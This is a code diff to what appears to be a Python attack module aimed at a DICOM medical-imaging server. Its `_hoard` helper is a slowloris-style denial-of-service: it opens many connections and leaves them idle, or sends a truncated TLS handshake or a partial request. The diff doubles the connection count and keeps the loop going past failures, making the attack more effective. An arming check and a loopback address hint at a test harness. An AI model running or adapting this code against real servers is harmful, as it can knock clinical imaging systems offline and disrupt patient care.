@@ -11,7 +11,7 @@ from .dicom import echo_works
 from .kit import Brief, NotArmed, Result, ask, run
 
 _SOURCE = "127.0.0.67"
-_COUNT = 80
+_COUNT = 160
 _PATIENCE = 5.0
 
 
@@ -41,15 +41,14 @@ def attack(brief: Brief) -> Result:
 
 
 def _hoard(brief: Brief, port: int, words: bytes) -> list[socket.socket]:
-    """Connections with nothing, half a handshake or half a request on them, until no more are taken."""
+    """Connections with nothing, half a handshake or half a request on them; a closed one is no reason to stop."""
     held: list[socket.socket] = []
-    with contextlib.suppress(OSError):
-        for turn in range(_COUNT):
+    for turn in range(_COUNT):
+        with contextlib.suppress(OSError):
             where = (brief["dicom"]["host"], port)
-            stream = socket.create_connection(where, timeout=1, source_address=(_SOURCE, 0))
-            held.append(stream)
+            held.append(socket.create_connection(where, timeout=1, source_address=(_SOURCE, 0)))
             if turn % 2:
-                stream.sendall(b"\x16\x03\x01\x02\x00" if turn % 4 == 1 else words)
+                held[-1].sendall(b"\x16\x03\x01\x02\x00" if turn % 4 == 1 else words)
     return held
 
 
